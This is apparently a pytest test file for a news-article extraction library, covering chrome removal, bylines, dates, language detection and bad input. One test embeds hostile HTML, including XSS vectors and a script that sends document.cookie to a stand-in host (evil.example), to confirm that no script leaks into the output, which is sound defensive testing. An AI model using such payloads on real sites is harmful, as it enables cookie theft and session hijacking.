"""HTML and plain-text pages to Articles: chrome removal, metadata, hostile and empty input."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsbrief.errors import InputError, NewsbriefError
from newsbrief.reading.extraction import extract, looks_like_html
from newsbrief.reading.chrome import is_chrome
from newsbrief.reading.header import parse_byline, parse_date

DATA = Path(__file__).resolve().parents[1].parent / "shared" / "data"
SAMPLE = DATA / "sample_article_page.txt"

STORY = [
    "The city council approved the annual budget on Tuesday after a long debate about road "
    "repairs and school funding.",
    "Members voted nine to two in favour, and several said they would share the details with "
    "residents who subscribe to the council's newsletter.",
    "The mayor said the plan would keep taxes flat while expanding bus services across the "
    "northern districts next year.",
]


def sample_text() -> str:
    if not SAMPLE.is_file():
        pytest.skip(f"shared data not available at {DATA}")
    return SAMPLE.read_text(encoding="utf-8")


def line_after(text: str, label: str) -> str:
    lines = [line.strip() for line in text.splitlines()]
    index = lines.index(label)
    return next(line for line in lines[index + 1 :] if line)


def error_code(source: str | bytes, **kwargs: str) -> str:
    with pytest.raises(InputError) as caught:
        extract(source, **kwargs)  # type: ignore[arg-type]
    return caught.value.code


# --- the real sample page ---------------------------------------------------------------------


def test_sample_page_loses_its_chrome() -> None:
    raw = sample_text()
    article = extract(raw)
    for chrome in ("No time to read?", "Get a summary", "Previous Article", "Next Article"):
        assert chrome not in article.text
    assert article.title == raw.splitlines()[0].strip()
    assert article.previous == line_after(raw, "Previous Article")
    assert article.next == line_after(raw, "Next Article")
    assert article.previous not in article.text
    assert article.next not in article.text
    assert article.language == "en"
    assert article.title not in article.text
    assert len(article.paragraphs) >= 3
    assert all(len(p) > 200 for p in article.paragraphs)


def test_sample_page_as_bytes_matches_str() -> None:
    raw = sample_text()
    assert extract(raw.encode("utf-8")) == extract(raw)
    assert extract(raw.encode("utf-16")) == extract(raw)


def test_sample_page_keeps_every_story_sentence() -> None:
    raw = sample_text()
    body = extract(raw).text
    long_lines = [line for line in raw.splitlines() if len(line) > 200]
    assert long_lines
    for line in long_lines:
        assert line.strip() in body


# --- plain-text pages written for these tests -----------------------------------------------


def test_generic_text_page_header_and_chrome() -> None:
    page = "\n".join(
        [
            "Menu",
            "Council Approves Budget After Long Debate",
            "",
            "By Jane Doe and John Roe",
            "Published March 3, 2024 10:15 AM ET",
            "",
            "Share this article",
            "Listen to this article 4 min",
            "",
            STORY[0],
            "",
            "Advertisement",
            "",
            STORY[1],
            "",
            "Read more: Mayor Unveils Transport Plan",
            "",
            STORY[2],
            "",
            "We use cookies to improve your experience. By continuing you accept our policy",
            "Subscribe to our newsletter",
            "Related Stories",
            "Menu",
        ]
    )
    article = extract(page, url="https://example.org/a")
    assert article.text == "\n\n".join(STORY)
    # "Menu" is chrome, so the headline is the first line that counts.
    assert article.title == "Council Approves Budget After Long Debate"
    assert article.byline == "Jane Doe and John Roe"
    assert article.published == "2024-03-03"
    assert article.url == "https://example.org/a"


def test_title_byline_and_date_below_title() -> None:
    page = "Budget Passes\nBy Jane Doe | 2024-03-03\n\n" + "\n\n".join(STORY)
    article = extract(page)
    assert (article.title, article.byline, article.published) == (
        "Budget Passes",
        "Jane Doe",
        "2024-03-03",
    )
    assert article.text == "\n\n".join(STORY)


def test_a_first_sentence_is_not_a_title() -> None:
    article = extract("\n\n".join(STORY))
    assert article.title is None
    assert article.text == "\n\n".join(STORY)
    glued = extract("Council news without punctuation\n" + STORY[0])
    assert glued.title is None


def test_story_sentences_that_mention_chrome_words_survive() -> None:
    lines = [
        "Share prices fell sharply after the announcement.",
        "Read more carefully, the judge told the lawyers.",
        "Advertisement revenue dropped by a third in the quarter.",
        "Next, the committee will vote on the proposal.",
        "By Tuesday, most of the snow had melted away.",
    ]
    article = extract("Markets Slide\n\n" + "\n\n".join(lines))
    assert article.paragraphs == lines
    assert article.byline is None


def test_inline_previous_next_links() -> None:
    page = "\n\n".join(
        [*STORY, "Previous article: Storm Hits Coast", "Next story » Rail Strike Ends"]
    )
    article = extract(page)
    assert (article.previous, article.next) == ("Storm Hits Coast", "Rail Strike Ends")
    assert article.text == "\n\n".join(STORY)


def test_hard_wrapped_lines_are_rejoined() -> None:
    wrapped = (
        "The city council approved the annual budget on Tuesday\n"
        "after a long debate about road repairs and school funding.\n"
        "Members voted nine to two."
    )
    article = extract(wrapped + "\n\n" + STORY[2])
    assert article.paragraphs[0].startswith(
        "The city council approved the annual budget on Tuesday after"
    )


def test_only_chrome_is_no_article() -> None:
    assert error_code("Share\n\nAdvertisement\n\nSubscribe now\nRead more") == "no_article"


@pytest.mark.parametrize(
    "line",
    [
        "Share on Facebook",
        "ADVERTISEMENT",
        "Read more »",
        "Related:",
        "5 min read",
        "© 2024 Example News",
    ],
)
def test_chrome_lines(line: str) -> None:
    assert is_chrome(line)


def test_dates_and_bylines() -> None:
    assert parse_date("Updated: Tue 18 March 2025 09:30 GMT") == "2025-03-18"
    assert parse_date("Mar. 18, 2025") == "2025-03-18"
    assert parse_date("03/04/2025") is None  # ambiguous day/month
    assert parse_date("The vote on March 18, 2025 was close") is None
    assert parse_byline("By JANE DOE, Reuters") == "JANE DOE, Reuters"
    assert parse_byline("By the end of the day, it was over.") is None


# --- languages ---------------------------------------------------------------------------------

NON_ENGLISH = {
    "fr": "Le conseil municipal a adopté mardi le budget annuel après un long débat sur la "
    "réparation des routes et le financement des écoles. Le maire a déclaré que les impôts "
    "resteraient stables.",
    "de": "Der Stadtrat hat am Dienstag nach einer langen Debatte über Straßenreparaturen und "
    "die Finanzierung der Schulen den Jahreshaushalt verabschiedet. Die Steuern bleiben stabil.",
    "es": "El ayuntamiento aprobó el martes el presupuesto anual tras un largo debate sobre la "
    "reparación de las carreteras y la financiación de las escuelas. Los impuestos no subirán.",
    "ru": "Городской совет во вторник утвердил годовой бюджет после долгих споров о ремонте "
    "дорог и финансировании школ. Мэр заявил, что налоги останутся прежними.",
}


@pytest.mark.parametrize(("code", "text"), sorted(NON_ENGLISH.items()))
def test_language_detection(code: str, text: str) -> None:
    assert extract(text).language == code
    assert extract(text.encode("utf-8")).language == code


def test_language_override_and_validation() -> None:
    assert extract(NON_ENGLISH["fr"], language="FR").language == "fr"
    assert error_code(NON_ENGLISH["fr"], language="French!") == "invalid_language"


def test_latin1_bytes_text_page() -> None:
    article = extract(NON_ENGLISH["fr"].encode("latin-1"))
    assert article.text == NON_ENGLISH["fr"]


# --- HTML ---------------------------------------------------------------------------------------


def html_page(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>"


def test_html_article_with_metadata() -> None:
    head = (
        "<title>Council approves budget</title>"
        '<meta name="author" content="Jane Doe">'
        '<meta property="article:published_time" content="2024-03-03T10:15:00Z">'
    )
    body = (
        "<nav><a href='/'>Home</a> <a href='/news'>News</a></nav><article>"
        "<h1>Council approves budget</h1>"
        + "".join(f"<p>{p}</p>" for p in STORY)
        + "</article><footer>© 2024 Example News. All rights reserved.</footer>"
    )
    article = extract(html_page(body, head), url="https://example.org/budget")
    assert article.text == "\n\n".join(STORY)
    assert article.title == "Council approves budget"
    assert article.byline == "Jane Doe"
    assert article.published == "2024-03-03"
    assert article.language == "en"


def test_html_bytes_with_declared_legacy_charset() -> None:
    head = '<meta charset="windows-1251"><title>Бюджет</title>'
    page = html_page(f"<article><p>{NON_ENGLISH['ru']}</p></article>", head)
    article = extract(page.encode("cp1251"))
    assert NON_ENGLISH["ru"] in article.text
    assert article.language == "ru"


def test_html_fragment_is_html() -> None:
    article = extract("".join(f"<p>{p}</p>" for p in STORY))
    assert article.text == "\n\n".join(STORY)


@pytest.mark.parametrize(
    "page",
    [
        html_page(""),
        html_page(
            "<nav><a href='/'>Home</a> <a href='/about'>About</a></nav>", "<title>Site</title>"
        ),
        html_page("<div><img src='a.png'><img src='b.png'></div>"),
    ],
)
def test_html_without_article(page: str) -> None:
    assert error_code(page) == "no_article"


def test_html_of_only_scripts_and_styles() -> None:
    page = html_page(
        "<script>document.write('A long paragraph of injected text, looking like prose.')</script>"
        "<script>var story = 'The council approved the budget on Tuesday after debate.';</script>",
        "<style>body { color: red } p::after { content: 'Styled text, not an article.' }</style>",
    )
    assert error_code(page) == "no_article"


def test_hostile_html_never_leaks_script() -> None:
    body = (
        "<article><h1 onmouseover=\"alert('h1')\">Council approves budget</h1>"
        f"<p onclick=\"alert('click')\">{STORY[0]}</p>"
        "<script>alert('pwned'); fetch('https://evil.example/?c=' + document.cookie)</script>"
        f"<p>{STORY[1]} <a href=\"javascript:alert('x')\">Details</a></p>"
        "<img src=x onerror=\"alert('img')\"><iframe src=\"javascript:alert('frame')\"></iframe>"
        "<svg><script>alert('svg')</script></svg>"
        "<style>p { background: url(javascript:alert(1)) }</style>"
        f"<p>{STORY[2]}</p><script type='module'>import('evil.js')</script></article>"
    )
    article = extract(html_page(body))
    for leak in ("alert", "javascript", "document.cookie", "evil", "onerror", "onclick", "<"):
        assert leak not in article.text
        assert leak not in (article.title or "")
    for paragraph in STORY:
        assert paragraph in article.text


def test_kind_text_keeps_markup_as_text_and_unknown_kind_fails() -> None:
    article = extract("<p>" + STORY[0] + "</p>", kind="text")
    assert article.text.startswith("<p>")
    assert error_code(STORY[0], kind="pdf") == "unknown_kind"


def test_looks_like_html() -> None:
    assert looks_like_html("<!doctype html><title>x</title>")
    assert looks_like_html("  <html lang='en'>")
    assert looks_like_html("<div><p>One.</p><p>Two.</p></div>")
    assert not looks_like_html("Use the <p> tag for paragraphs, said the web designer.")
    assert not looks_like_html(STORY[0])


# --- bad input -----------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["", "   \n\t", b"", b"\n\n"])
def test_empty_input(source: str | bytes) -> None:
    assert error_code(source) == "empty_input"


def test_binary_input() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    with pytest.raises(InputError) as caught:
        extract(png)
    assert caught.value.code == "binary_input"
    assert "PNG" in caught.value.message


def test_fifty_megabytes_is_refused_fast() -> None:
    data = (STORY[0] + "\n\n").encode() * (50 * 1024 * 1024 // (len(STORY[0]) + 2) + 1)
    start = time.perf_counter()
    assert error_code(data) == "too_large"
    assert error_code(data.decode()) == "too_large"
    assert time.perf_counter() - start < 1.0


HTMLISH = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<script>",
            "</script>",
            "<div>",
            "&amp;",
            "<!--",
            "-->",
            "\n\n",
            "\x00",
            "By Jane Doe",
            "Share",
            "Previous Article",
            "Hello world. ",
            STORY[0],
            "<html>",
            "é",
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=400), HTMLISH, st.binary(max_size=400)))
def test_anything_raises_only_newsbrief_errors(source: str | bytes) -> None:
    try:
        article = extract(source)
    except NewsbriefError:
        return
    assert article.text.strip()
    assert "\n\n\n" not in article.text


MENU_PAGE = """Home | World | Business | Sport
Share this article
Council Approves New Harbour Bridge After Long Debate

By Jane Smith
March 3, 2025

The city council voted 7-2 on Tuesday to approve a new bridge across the harbour. The project
will cost 40 million dollars and take three years to build.

Advertisement

Construction is expected to begin in the autumn. The mayor said contracts would be signed soon.

Subscribe to our newsletter
Previous article: Storm damages seafront
Next article: Schools face budget cuts
"""


def test_a_menu_line_above_the_headline_is_chrome() -> None:
    article = extract(MENU_PAGE)
    assert article.title == "Council Approves New Harbour Bridge After Long Debate"
    assert article.byline == "Jane Smith"
    assert article.published == "2025-03-03"
    assert article.text.startswith("The city council voted 7-2")
    assert "Home | World" not in article.text and "Advertisement" not in article.text
    assert article.previous == "Storm damages seafront"
    assert article.next == "Schools face budget cuts"


def test_language_identification_can_be_skipped() -> None:
    text = "The council approved the new budget on Tuesday after a long and heated debate."
    assert extract(text).language == "en"
    assert extract(text, identify_language=False).language is None
